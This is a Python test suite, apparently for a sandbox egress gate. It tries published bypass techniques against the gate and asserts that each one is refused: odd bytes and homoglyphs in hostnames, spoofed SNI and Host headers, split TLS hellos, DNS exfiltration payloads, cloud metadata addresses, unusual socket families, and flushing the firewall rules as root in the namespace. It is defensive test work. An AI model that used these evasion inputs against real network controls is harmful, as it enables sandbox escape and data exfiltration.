@@ -1,0 +1,417 @@
+#!/usr/bin/python3
+"""The published ways round gates like this one, each tried in a sandbox: what the program is told, the one record with its
+reason, and what reached the other side (nothing, where it is refused).
+
+  way round                                              case here
+  a NUL or another odd byte in a name                    odd_bytes_in_names, odd_bytes_in_hellos, odd_bytes_in_heads
+  letter case, a last dot, a port in the name            spelling_does_not_matter
+  suffixes that are not labels, the name itself          labels_not_suffixes
+  letters that look alike, other dots, broken xn--       odd_bytes_in_names
+  inner addresses: mapped, translated, tunnelled         addresses_below_the_floor
+  private, shared and reserved addresses                 addresses_below_the_floor, private_only_where_the_rule_says_so
+  a name of the attacker's for an inner address          addresses_below_the_floor
+  another answer between check and connect               one_answer_serves_check_and_connection
+  two names at one address                               shared_addresses_help_nobody
+  an allowed SNI, Host or hosts file for another address a_claimed_name_is_no_name
+  hellos in pieces, and endless ones                     split_hellos_are_judged_the_same
+  one denied host by every way                           one_host_by_every_way
+  ports that nobody watches                              every_port_is_watched
+  root of the network namespace changes it               root_of_the_namespace_gains_nothing
+  programs that know no proxy, or their own              variables_and_proxies_do_not_matter
+  no rules, missing rules, a missing part, a lost gate   empty_rules_deny_all, what_is_missing_refuses_the_start
+  data in questions for names                            names_carry_nothing_out
+  connecting without connect(2)                          other_calls_that_connect
+  a port that local rules leave open                     no_way_to_the_host
+  the host by its gateway's addresses and names          no_way_to_the_host
+  a name server or proxy of the sandbox's choice         variables_and_proxies_do_not_matter
+  an alias of an unlisted name                           an_alias_is_trusted_and_gains_nothing
+  an address used again by another sandbox               sandboxes_are_told_apart_by_their_listener
+  the gate's own listener                                no_way_to_the_host
+  socket families that know no network namespace         no_other_families
+
+Inside TLS and HTTP (names of requests, smuggled requests, upgrades, injected secrets): inspect.t. Rules that change while
+connections run: reload.t."""
+import os
+import subprocess
+import sys
+
+sys.dont_write_bytecode = True
+sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))
+import gateworld  # noqa: E402
+import reap  # noqa: E402
+from brigtest import Skip, case, done, eq, main, ok, until  # noqa: E402
+from gateworld import A, B, BELOW, PRIVATE  # noqa: E402
+
+W = gateworld.enter()
+WILD = ("--allow", "*.allowed.test:7")
+REACHED = ["?x.allowed.test", A + ":7"]
+ODD = [bytes([c]) for c in (*range(0x21), 0x7f, 0x80, 0xff, *b"%/\\@:#?[]*")]
+
+
+def attempts(m, rows, *opts, rules=WILD, **kw):
+    return gateworld.attempts(W, m, rows, *opts, rules=rules, **kw)
+
+
+def bad_name(title, label):
+    return (title, f"ask(name({label!r}, b'allowed', b'test'))", "3 0", [("dns", "bad_name", None)])
+
+
+@case
+def odd_bytes_in_names(m):
+    rows = [bad_name(f"byte {c[0]:#x}", b"a" + c + b"b") for c in ODD]
+    rows += [bad_name("evil.test before a NUL", b"evil.test\0"), bad_name("a dot inside a label", b"x.y"),
+             bad_name("Cyrillic a", "\u0430pi".encode()), bad_name("ideographic full stop", "x\u3002y".encode()),
+             bad_name("zero width space", "x\u200by".encode()), bad_name("latin1", b"\xe4pi"), bad_name("first hyphen", b"-x"),
+             bad_name("empty xn--", b"xn--")]
+    rows += [("one label", "ask(name(b'localhost'))", "3 0", [("dns", "bad_name", "localhost")]),
+             ("a number as last label", "ask(name(b'a', b'123'))", "3 0", [("dns", "bad_name", "a.123")]),
+             ("a hex number as last label", "ask(name(b'a', b'0x7f'))", "3 0", [("dns", "bad_name", "a.0x7f")]),
+             ("the port in the name", "ask(name(b'x', b'allowed', b'test:7'))", "3 0", [("dns", "bad_name", "x.allowed.test:7")]),
+             ("an empty label", "ask(b'\\x01x\\0\\x07allowed\\x04test\\0')", "3 0", [("dns", "bad_name", "x")])]
+    recs, _ = attempts(m, rows, lines="dns denied_qps 1000\n")
+    eq(len(recs), len(rows), "one record each")
+
+
+@case
+def spelling_does_not_matter(m):
+    attempts(m, [
+        ("capitals and a dot", "tcp('X.Allowed.TEST.', 7)", b"hello", [("connect", "allowed", "x.allowed.test:7")], REACHED),
+        ("two dots", "tcp('x.allowed.test..', 7)", "noname", []),
+        ("a refused name in capitals", "tcp('BAD.Allowed.Test.', 7)", "noname", [("dns", "deny_rule", "bad.allowed.test")]),
+        ("a name refused at one port, in capitals", "tcp('HALF.Allowed.Test.', 7)", "reset", [("connect", "deny_rule", "half.allowed.test:7")]),
+    ], rules=("--allow", "*.allowed.test:7,8", "--deny", "bad.allowed.test:7-8", "--deny", "half.allowed.test:7"))
+
+
+@case
+def labels_not_suffixes(m):
+    attempts(m, [(n, f"tcp('{n}', 7)", "noname", [("dns", "no_rule", n)]) for n in
+                 ("notallowed.test", "allowed.test.evil.test", "xallowed.test", "allowed.test", "a.b.allowed.test", "evil.test",
+                  "xn--llowed-9na.test", "a.deep.allowed.test.evil.test")]
+             + [("many labels where asked for", "tcp('a.b.many.test', 7)", "reset", [("connect", "unresolved", "a.b.many.test:7")], ["?a.b.many.test"])],
+             rules=(*WILD, "--allow", "**.many.test:7"))
+
+
+@case
+def addresses_below_the_floor(m):
+    recs, _ = attempts(m, [(a, f"tcp('below{i}.allowed.test', 7)", "reset", [("connect", "addr_host" if a == "10.99.0.1" else "addr_floor", f"below{i}.allowed.test:7")],
+                            [f"?below{i}.allowed.test"]) for i, a in enumerate(BELOW)], lines="limit conn_rate_per_s 1000\nlimit burst 1000\n")
+    eq(len([x for x in recs if x.get("resolved")]), len(BELOW), "the addresses are recorded")
+
+
+@case
+def private_only_where_the_rule_says_so(m):
+    meta, lo = BELOW.index("169.254.169.254"), BELOW.index("127.0.0.1")
+    attempts(m, [
+        ("private", "tcp('private.allowed.test', 7)", b"hello", [("connect", "allowed", "private.allowed.test:7")],
+         ["?private.allowed.test", PRIVATE + ":7"]),
+        ("metadata", f"tcp('below{meta}.allowed.test', 7)", "reset", [("connect", "addr_floor", f"below{meta}.allowed.test:7")], [f"?below{meta}.allowed.test"]),
+        ("loopback", f"tcp('below{lo}.allowed.test', 7)", "reset", [("connect", "addr_floor", f"below{lo}.allowed.test:7")], [f"?below{lo}.allowed.test"]),
+        ("by address", "tcp('169.254.169.254', 80)", "reset", [("connect", "addr_floor", "169.254.169.254:80")]),
+        ("a range of everything", f"tcp('{PRIVATE}', 4443)", "reset", [("connect", "addr_floor", PRIVATE + ":4443")]),
+    ], rules=("--allow", "private.allowed.test:7@10.20.0.0/16", "--allow", f"below{meta}.allowed.test:7@169.254.0.0/16",
+              "--allow", f"below{lo}.allowed.test:7@127.0.0.0/8", "--allow-cidr", "169.254.0.0/16:80", "--allow-cidr", "0.0.0.0/0:4443"))
+
+
+@case
+def one_answer_serves_check_and_connection(m):
+    flip = f"flip-{m.name}.allowed.test"
+    _, seen = attempts(m, [
+        ("a good answer first", f"tcp('{flip}', 7)", b"hello", [("connect", "allowed", flip + ":7")], ["?" + flip, A + ":7"]),
+        ("then a bad one", f"tcp('{flip}', 7)", "reset", [("connect", "addr_floor", flip + ":7")], ["?" + flip]),
+        ("both in one answer", "tcp('mixed.allowed.test', 7)", b"hello", [("connect", "allowed", "mixed.allowed.test:7")],
+         ["?mixed.allowed.test", A + ":7"]),
+    ])
+    eq(len([x for x in seen if x.get("query") == flip]), 4, "one question of each type per connection")
+
+
+@case
+def shared_addresses_help_nobody(m):
+    attempts(m, [
+        ("its own name", "tcp('ok.shared.test', 7)", b"hello", [("connect", "allowed", "ok.shared.test:7")], ["?ok.shared.test", A + ":7"]),
+        ("the other name", "tcp('bad.shared.test', 7)", "noname", [("dns", "no_rule", "bad.shared.test")]),
+        ("the address", f"tcp('{A}', 7)", "refused", [("packet", "raw_ip", A + ":7")]),
+        ("the other's made-up address", "tcp('198.18.1.1', 7)", "reset", [("connect", "no_mapping", "198.18.1.1:7")]),
+    ], rules=("--allow", "ok.shared.test:7"))
+
+
+@case
+def a_claimed_name_is_no_name(m):
+    get = "b'GET / HTTP/1.1\\r\\nHost: api.allowed.test\\r\\n\\r\\n'"
+    attempts(m, [
+        ("SNI", f"tcp('{B}', 443, hello('api.allowed.test'))", "refused", [("packet", "raw_ip", B + ":443")]),
+        ("Host", f"tcp('{B}', 80, {get})", "refused", [("packet", "raw_ip", B + ":80")]),
+        ("a file of names", f"run('curl', '-sS', '-m', '10', '--resolve', 'api.allowed.test:80:{B}', 'http://api.allowed.test/')", "7",
+         [("packet", "raw_ip", B + ":80")]),
+        ("SNI on a range's other port", f"tcp('{A}', 443, hello('api.allowed.test'))", "reset", [("connect", "port", A + ":443")]),
+    ], rules=("--allow", "api.allowed.test:443,80", "--allow-cidr", f"{A}/32:8443"))
+
+
+@case
+def split_hellos_are_judged_the_same(m):
+    good = ("connect", "allowed", "api.allowed.test:443")
+    seen = ["?api.allowed.test", A + ":443"]
+    host = "'api.allowed.test', 443"
+    rows = [(t, f"tcp({host}, {e}, 1)" if e[0] != "!" else f"drip('api.allowed.test', {e[1:]})", b"\x16", [good], seen) for t, e in (
+        ("whole", "hello('api.allowed.test')"), ("records of 100 bytes", "records(hello('api.allowed.test'), 100)"),
+        ("records of 1 byte", "records(hello('api.allowed.test'), 1)"), ("segments of 1 byte", "!hello('api.allowed.test')"),
+        ("records of 1 byte in segments of 1 byte", "!records(hello('api.allowed.test'), 1)"),
+        ("over 16 KiB", "with_extension(hello('api.allowed.test'), 0x7777, bytes(20000))"), ("capitals", "hello('API.Allowed.Test')"))]
+    for why, cases in (("sni_mismatch", (("evil", "hello('evil.test')"), ("evil in records of 7 bytes", "records(hello('evil.test'), 7)"),
+                                         ("evil over 16 KiB", "with_extension(hello('evil.test'), 0x7777, bytes(20000))"),
+                                         ("another allowed name", "hello('x.allowed.test')"), ("longer", "hello('api.allowed.test.evil.test')"))),
+                       ("sni_missing", (("none", "hello(None)"), ("none in records of 1 byte", "records(hello(None), 1)"))),
+                       ("ech", (("ECH", "with_extension(hello('api.allowed.test'), 0xfe0d, bytes(200))"),)),
+                       ("hello_unparsable", (("too long", "b'\\x16\\x03\\x01\\x40\\0' + b'\\x01\\x01\\0\\0' + bytes(70000)"),
+                                             ("not TLS", "b'GET / HTTP/1.1\\r\\n\\r\\n'"), ("SSLv2", "b'\\x80\\x2e\\x01\\0\\2' + bytes(43)"),
+                                             ("alert first", "b'\\x15\\x03\\x01\\0\\2\\1\\0' + hello('api.allowed.test')"),
+                                             ("SNI twice", "with_extension(hello('api.allowed.test'), 0, b'\\0\\x0c\\0\\0\\x09evil.test')")))):
+        rows += [(t, f"tcp({host}, {e}, 1)", "reset", [("connect", why, "api.allowed.test:443")]) for t, e in cases]
+    attempts(m, rows, rules=("--allow", "api.allowed.test:443/tls", "--allow", "x.allowed.test:443/tls"))
+
+
+@case
+def odd_bytes_in_hellos(m):
+    rows = []
+    for c in (b"\0", b" ", b"\x7f", b"\xff", b"/", b":", b"@", b"%"):
+        for t, sni in (("before", f"hello('evilQapi.allowed.test').replace(b'evilQ', b'evil{c.hex()}'.replace(b'{c.hex()}', bytes.fromhex('{c.hex()}')))"),
+                       ("after", f"hello('api.allowed.testQevil').replace(b'testQ', b'test' + bytes.fromhex('{c.hex()}'))")):
+            rows.append((f"{c!r} {t}", f"tcp('api.allowed.test', 443, {sni}, 1)", "reset", None))
+    reasons = set()
+    script = "for e in (\n" + "".join(f"  lambda: {r[1]},\n" for r in rows) + "): print(e())\n"
+    r, recs, seen = gateworld.gate(W, m, script, rules=("--allow", "api.allowed.test:443/tls"))
+    eq(r.out.split(), [b"reset"] * len(rows), f"{recs}")
+    reasons = {x["reason"] for x in recs}
+    ok(sum(x.get("suppressed", 1) for x in recs) == len(rows) and reasons <= {"sni_mismatch", "bad_name", "hello_unparsable"}, f"{recs}")
+    eq(seen, [], "nothing")
+
+
+@case
+def odd_bytes_in_heads(m):
+    get = "GET / HTTP/1.1\\r\\nHost: {}\\r\\n\\r\\n"
+    rows = [("good", f"tcp('api.allowed.test', 80, b'{get.format('API.allowed.test.:80')}', 4)", b"HTTP",
+             [("connect", "allowed", "api.allowed.test:80")], ["?api.allowed.test", A + ":80"])]
+    for why, heads in (("host_mismatch", (get.format("evil.test"), get.format("api.allowed.test:8080"), get.format("xapi.allowed.test"),
+                                          get.format("api.allowed.test.evil.test"))),
+                       ("http_unparsable", ("GET http://evil.test/ HTTP/1.1\\r\\nHost: api.allowed.test\\r\\n\\r\\n",
+                                            "GET / HTTP/1.1\\r\\nHost: api.allowed.test\\r\\nHost: evil.test\\r\\n\\r\\n",
+                                            "CONNECT evil.test:443 HTTP/1.1\\r\\nHost: api.allowed.test\\r\\n\\r\\n",
+                                            "GET / HTTP/1.1\\nHost: api.allowed.test\\r\\n\\r\\n",
+                                            "GET / HTTP/1.1\\r\\nHost: api.allowed.test\\r\\n x\\r\\n\\r\\n",
+                                            get.format("api.allowed.test\\0evil.test"), get.format("evil.test\\0.allowed.test")))):
+        rows += [(h, f"tcp('api.allowed.test', 80, b'{h}', 4)", "reset", [("connect", why, "api.allowed.test:80")]) for h in heads]
+    attempts(m, rows, rules=("--allow", "api.allowed.test:80/http"))
+    odd = [get.format("evil.test" + f"\\x{c[0]:02x}" + ".allowed.test") for c in ODD if c not in (b"\r", b"\n", b"\t", b" ", b"*")]
+    r, recs, seen = gateworld.gate(W, m, f"for h in {odd!r}: print(tcp('api.allowed.test', 80, h.encode('latin1').decode('unicode_escape').encode('latin1'), 4))\n",
+                                   rules=("--allow", "api.allowed.test:80/http"), lines="limit conn_rate_per_s 1000\nlimit burst 1000\n")
+    eq(r.out.split(), [b"reset"] * len(odd), f"{recs}")
+    ok({x["reason"] for x in recs} <= {"host_mismatch", "http_unparsable", "bad_name"} and sum(x.get("suppressed", 1) for x in recs) == len(odd), f"{recs}")
+    eq(seen, [], "nothing")
+
+
+@case
+def one_host_by_every_way(m):
+    rows = [(f"name, port {p}", f"tcp('evil.test', {p})", "noname", [("dns", "no_rule", "evil.test")]) for p in (80, 443, 7)]
+    rows += [(f"address, port {p}", f"tcp('{B}', {p})", "refused", [("packet", "raw_ip", f"{B}:{p}")]) for p in (80, 443, 7, 1080, 3128)]
+    rows += [("by name over TCP", "ask_tcp('8.8.8.8', dotted('evil.test'))", "3 0", [("dns", "no_rule", "evil.test")]),
+             ("curl", "run('curl', '-sS', '-m', '10', 'http://evil.test/')", "6", [("dns", "no_rule", "evil.test")]),
+             ("a refused name by every port", "[tcp('no.allowed.test', p) for p in (80, 443, 7)]", ["noname"] * 3,
+              [("dns", "deny_rule", "no.allowed.test")]),
+             ("IPv6", "tcp('2606:2800:220:1::1', 443)", "refused", [("packet", "raw_ip", "[2606:2800:220:1::1]:443")])]
+    attempts(m, rows, rules=("--allow", "*.allowed.test:80,443,7", "--deny", "no.allowed.test:1-65535"))
+
+
+@case
+def every_port_is_watched(m):
+    ports = (1, 22, 25, 80, 98, 99, 100, 443, 853, 3000, 5432, 8080, 8443, 15001, 65535)
+    attempts(m, [(f"name, {p}", f"tcp('x.allowed.test', {p})", "reset", [("connect", "port", f"x.allowed.test:{p}")]) for p in ports]
+             + [(f"address, {p}", f"tcp('{A}', {p}) in ('refused', 'reset')", "True", [("connect" if p == 99 else "packet", "raw_ip", f"{A}:{p}")])
+                for p in ports])
+
+
+@case
+def no_way_to_the_host(m):
+    rows = [(a, f"tcp('{a}', {p})", "refused", [("packet", "raw_ip", f"{a}:{p}" if ":" not in a else f"[{a}]:{p}")]) for a, p in
+            (("10.0.2.2", 7), ("10.0.2.3", 53000), ("10.99.0.1", 7), ("172.17.0.1", 7), ("192.168.65.2", 7), ("169.254.169.254", 80),
+             ("fd00:ec2::254", 80), ("100.100.100.200", 80), ("0.0.0.1", 7))]
+    rows += [(n, f"tcp('{n}', 7)", "noname", [("dns", "no_rule", n)]) for n in
+             ("host.docker.internal", "gateway.docker.internal", "host.containers.internal", "metadata.google.internal")]
+    rows += [(f"listener at {a}", f"tcp('{a}', 99)", "reset", [("connect", "self", f"{a}:99" if ":" not in a else f"[{a}]:99")])
+             for a in ("127.0.0.1", "127.9.9.9", "198.18.0.2", "::1", "fd00:5b:ffff::2")]
+    rows += [("a made-up address of nobody's", "tcp('198.18.77.7', 7)", "reset", [("connect", "no_mapping", "198.18.77.7:7")]),
+             ("the name server's other ports", "tcp('198.18.0.1', 7)", "reset", [("connect", "no_mapping", "198.18.0.1:7")]),
+             ("loopback is the sandbox's own", "tcp('127.0.0.1', 7)", "refused", [])]
+    attempts(m, rows)
+
+
+@case
+def variables_and_proxies_do_not_matter(m):
+    ask = ("dns", "no_rule", "evil.test")
+    attempts(m, [
+        ("none", "run('curl', '-sS', '-m', '10', '--noproxy', '*', 'http://evil.test/')", "6", [ask]),
+        ("a proxy of its own", f"run('curl', '-sS', '-m', '10', '-x', 'http://{B}:8080', 'http://api.allowed.test/')", "7", [("packet", "raw_ip", B + ":8080")]),
+        ("an environment without anything", "run('/usr/bin/curl', '-sS', '-m', '10', 'http://evil.test/', env={})", "6", [ask]),
+        ("another name server", "ask(dotted('evil.test'), to='8.8.8.8')", "3 0", [ask]),
+        ("allowed by another name server", "ask(dotted('api.allowed.test'), to='9.9.9.9').split()[:2]", ["0", "1"], []),
+        ("allowed, with a proxy that is not asked", "run('curl', '-sS', '-m', '10', '--noproxy', '*', 'http://api.allowed.test/')", "0",
+         [("connect", "allowed", "api.allowed.test:80")], ["?api.allowed.test", A + ":80"]),
+    ], "--env", f"http_proxy=http://{B}:8080", rules=("--allow", "api.allowed.test:80"))
+
+
+@case
+def empty_rules_deny_all(m):
+    attempts(m, [("name", "tcp('x.allowed.test', 7)", "noname", [("dns", "no_rule", "x.allowed.test")]),
+                 ("address", f"tcp('{A}', 7)", "refused", [("packet", "raw_ip", A + ":7")])], rules=())
+
+
+def without(*calls):
+    """Like a kernel that lacks something: for argv and all it starts, a call with these first arguments fails."""
+    return [sys.executable, os.path.join(os.path.dirname(gateworld.__file__), "lacking.py"), *calls]
+
+
+@case
+def what_is_missing_refuses_the_start(m):
+    conf = m.put("rules", "allow x.allowed.test:7\n")
+    want = m.run_argv("--egress", conf, "--", "sh", "-c", "echo ran")
+
+    def refused(argv, *words):
+        r = m.exec(argv)
+        ok(r.rc == 125 and b"ran" not in r.out and all(w in r.err for w in words) and r.err.count(b"\n") <= 2, f"{argv}: {r!r}")
+    done(m.exec(want), 0, b"ran\n")
+    refused(m.run_argv("--egress", conf + ".gone", "--", "sh", "-c", "echo ran"), b"gone")
+    refused(m.run_argv("--egress", m.put("broken", "allow x.allowed.test\n"), "--", "sh", "-c", "echo ran"), b"1")
+    refused([*without("netfilter"), *want], b"nf_tables")
+    refused(["unshare", "--user", "--map-root-user", "sh", "-c", "echo 0 > /proc/sys/user/max_net_namespaces && exec \"$@\"", "sh", *want])
+    os.rename(os.path.join(m.bin, "brig-gate"), os.path.join(m.bin, "gone"))
+    try:
+        refused(want, b"brig-gate")
+    finally:
+        os.rename(os.path.join(m.bin, "gone"), os.path.join(m.bin, "brig-gate"))
+
+
+@case
+def names_carry_nothing_out(m):
+    no, label = "no_rule", "b'x' * 60, b'evil', b'test'"
+    long = "x" * 60 + ".evil.test"
+    n = "dotted('x.allowed.test')"
+    rows = [("data in a label", f"ask(name({label}), to='8.8.8.8')", "3 0", [("dns", no, long)]),
+            ("the same over TCP, twice", f"ask_tcp('8.8.8.8', name({label}), {n})", "3 0, 0 1 198.18.1.0", [("dns", no, long)]),
+            ("its text", "ask(dotted('t.evil.test'), 16, '8.8.8.8')", "3 0", [("dns", no, "t.evil.test")]),
+            ("NULL", "ask(dotted('n.evil.test'), 10, '8.8.8.8')", "3 0", [("dns", no, "n.evil.test")]),
+            ("a long label below a wildcard", "ask(name(b'x' * 40, b'allowed', b'test'))", "3 0", [("dns", "dns_label", "x" * 40 + ".allowed.test")]),
+            ("a transfer", "ask(dotted('y.allowed.test'), 252)", "3 0", [("dns", "dns_type", "y.allowed.test")]),
+            ("a name of an address", "ask(dotted('34.216.184.93.in-addr.arpa'), 12)", "3 0", [("dns", "dns_type", "34.216.184.93.in-addr.arpa")]),
+            ("an address by IPv6", "udp('2001:4860:4860::8888', 53, socket.AF_INET6)", "unreach", [("packet", "transport", "[2001:4860:4860::8888]:53")]),
+            ("over TLS", "tcp('8.8.8.8', 853)", "refused", [("packet", "raw_ip", "8.8.8.8:853")]),
+            ("over HTTPS", "tcp('dns.google', 443)", "noname", [("dns", no, "dns.google")]),
+            ("multicast", "unconnected('224.0.0.251', 5353, 0.2)", "timeout", [("packet", "transport", "224.0.0.251:5353")])]
+    rows += [(f"type {t}", f"ask({n}, {t})", "0 0", []) for t in (28, 16, 15, 33, 10, 64, 65, 255)]
+    rows += [("options are dropped", f"ask({n}, 1, '8.8.8.8', b'\\0\\0\\x29\\x10\\0\\0\\0\\0\\0\\0\\x0c\\xfd\\xe9\\0\\x08leakleak')", "0 1 198.18.1.0", []),
+             ("two questions", f"ask({n}, 1, count=2)", "1 0", []),
+             ("letter case", "tcp('X.aLLowed.tEst', 7)", b"hello", [("connect", "allowed", "x.allowed.test:7")], REACHED),
+             ("many names", "[ask(name(b'n%d' % i, b'many', b'test'))[:3] for i in range(70)].count('3 0')", 6, [("dns", "dns_budget", f"n{i}.many.test") for i in range(64, 70)])]
+    attempts(m, rows, rules=(*WILD, "--allow", "*.many.test:7"))
+
+
+@case
+def other_calls_that_connect(m):
+    attempts(m, [
+        ("sendto with FASTOPEN", f"fastopen('{A}', 7)", "refused", [("packet", "raw_ip", A + ":7")]),
+        ("the same to a made-up address", "fastopen('198.18.9.9', 7)", "reset", [("connect", "no_mapping", "198.18.9.9:7")]),
+        ("io_uring", "(ctypes.CDLL(None, use_errno=True).syscall(425, 8, 0), ctypes.get_errno() in (1, 38))", (-1, True), []),
+        ("UDP", "udp('8.8.8.8', 443)", "unreach", [("packet", "transport", "8.8.8.8:443")]),
+        ("UDP without connect", "unconnected('8.8.8.8', 123)", "unreach", [("packet", "transport", "8.8.8.8:123")]),
+        ("UDP over IPv6", "udp('2001:4860:4860::8888', 443, socket.AF_INET6)", "unreach", [("packet", "transport", "[2001:4860:4860::8888]:443")]),
+        ("UDP to a made-up address", "udp('198.18.1.0', 443)", "unreach", [("packet", "transport", "198.18.1.0:443")]),
+        ("TCP over IPv6", "tcp('2001:4860:4860::8888', 443)", "refused", [("packet", "raw_ip", "[2001:4860:4860::8888]:443")]),
+        ("mapped", f"tcp('::ffff:{A}', 7)", "refused", [("packet", "raw_ip", A + ":7")]),
+    ])
+
+
+@case
+def no_other_families(m):
+    names = {"VSOCK": (40, 1), "ALG": (38, 5), "TIPC": (30, 5), "RDS": (21, 5), "SMC": (43, 1), "XDP": (44, 3), "PACKET": (17, 3, 768), "KCM": (41, 5),
+             "BLUETOOTH": (31, 3, 1), "CAN": (29, 3, 1), "QIPCRTR": (42, 2), "MCTP": (45, 2), "NETLINK_NETFILTER": (16, 3, 12), "NETLINK_XFRM": (16, 3, 6),
+             "raw": (2, 3, 1), "raw 6": (10, 3, 58), "SCTP": (2, 1, 132), "MPTCP": (2, 1, 262), "ping": (2, 2, 1)}
+    attempts(m, [(n, f"family{a}" if len(a) > 1 else f"family({a[0]})", "unreach" if n == "ping" else "perm", []) for n, a in names.items()])
+
+
+@case
+def an_alias_is_trusted_and_gains_nothing(m):
+    recs, _ = attempts(m, [
+        ("alias", "tcp('cname.allowed.test', 7)", b"hello", [("connect", "allowed", "cname.allowed.test:7")], ["?cname.allowed.test", A + ":7"]),
+        ("what it stands for", "tcp('elsewhere.other.test', 7)", "noname", [("dns", "no_rule", "elsewhere.other.test")])])
+    ok("elsewhere.other.test" in recs[0]["cname_chain"], f"{recs}")
+
+
+def talk(m, rules, script):
+    """A sandbox that does what is written to it, line by line."""
+    if W is None:
+        raise Skip("namespaces for the servers need root")
+    conf, log = m.put("rules", f"resolver {gateworld.RESOLVER}\n"), m.path("log")
+    p = m.popen(m.run_argv("--egress", conf, "--egress-log", log, "-i", *rules, "--", "/usr/bin/python3", "-u", "-c", gateworld.INSIDE + script),
+                stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
+
+    def do(line):
+        p.stdin.write(line.encode() + b"\n")
+        p.stdin.flush()
+        said = p.stdout.readline().decode().strip()
+        ok(said, lambda: f"{line}: {p.communicate(timeout=20)}")
+        return said
+    return p, do, log
+
+
+LOOP = "for line in sys.stdin: print(eval(line))\n"
+
+
+@case
+def sandboxes_are_told_apart_by_their_listener(m):
+    p, first, log1 = talk(m, ("--allow", "x.allowed.test:7"), LOOP)
+    q, second, log2 = talk(m, ("--allow", "api.allowed.test:80"), LOOP)
+    eq(first("socket.gethostbyname('x.allowed.test')"), "198.18.1.0", "made-up address")
+    eq(second("socket.gethostbyname('api.allowed.test')"), "198.18.1.0", "the same in the other sandbox")
+    W.take()
+    eq((first("tcp('198.18.1.0', 7)"), second("tcp('198.18.1.0', 7)")), ("b'hello'", "reset"), "same address, own rules")
+    p.communicate(timeout=20)
+    eq(second("tcp('198.18.1.0', 7)"), "reset", "after the first has ended")
+    q.communicate(timeout=20)
+    eq([x["conn"] for x in W.take() if "conn" in x], [A + ":7"], "one connection")
+    for log, want in ((log1, ["allowed"]), (log2, ["port", "port"])):
+        with open(log, encoding="ascii") as f:
+            recs = [x for x in map(gateworld.json.loads, f) if x["event"] == "connect"]
+        eq(([x["reason"] for x in recs for _ in range(x.get("suppressed", 1))], len({x["sandbox_id"] for x in recs})), (want, 1), f"{recs}")
+
+
+@case
+def root_of_the_namespace_gains_nothing(m):
+    p, do, _ = talk(m, WILD, "print(os.getpid())\n" + LOOP)
+    p.stdout.readline()
+    eq(do("tcp('x.allowed.test', 7)"), "b'hello'", "works")
+    W.take()
+
+    def inside():
+        """The command, as it is seen from here."""
+        return [x for x in reap.below(p.pid) if reap.cmdline(x).startswith(b"/usr/bin/python3\0-u")]
+    pid = until(inside, 10, "the command's process")[0]
+
+    def as_root(cmd):
+        return subprocess.run(["nsenter", "-t", str(pid), "-n", "sh", "-c", cmd],
+                              stdout=subprocess.PIPE, stderr=subprocess.STDOUT, check=False, timeout=20)
+    eq(as_root("nft list ruleset | grep -c 'table inet gate'").stdout.strip(), b"1", "sees its rules")
+    for what in ("nft flush ruleset", "nft flush ruleset; ip route flush table main; ip -6 route flush table main",
+                 "ip link add veth0 type veth peer name veth1; ip addr add 93.184.216.1/24 dev veth0; ip link set veth0 up; "
+                 "ip link set veth1 up; ip route add default dev veth0",
+                 "ip rule add pref 1 lookup main; ip rule del pref 0; ip neigh add 10.99.0.2 lladdr 02:00:00:00:00:01 dev veth0",
+                 "ip link set lo down"):
+        r = as_root(what)
+        eq(r.returncode, 0, f"{what}: {r.stdout}")
+        for a in (f"'{A}', 7", f"'{B}', 443", "'10.99.0.1', 7", "'8.8.8.8', 53"):
+            said = do(f"word(lambda: socket.create_connection(({a}), 0.2) and 'connected')()")
+            ok(said in ("refused", "unreach", "timeout", "reset"), f"{what}: {a}: {said}")
+    p.communicate(timeout=20)
+    eq(W.take(), [], "nothing arrived")
+
+
+RC = main()
+if W is not None:
+    W.end()
+sys.exit(RC)
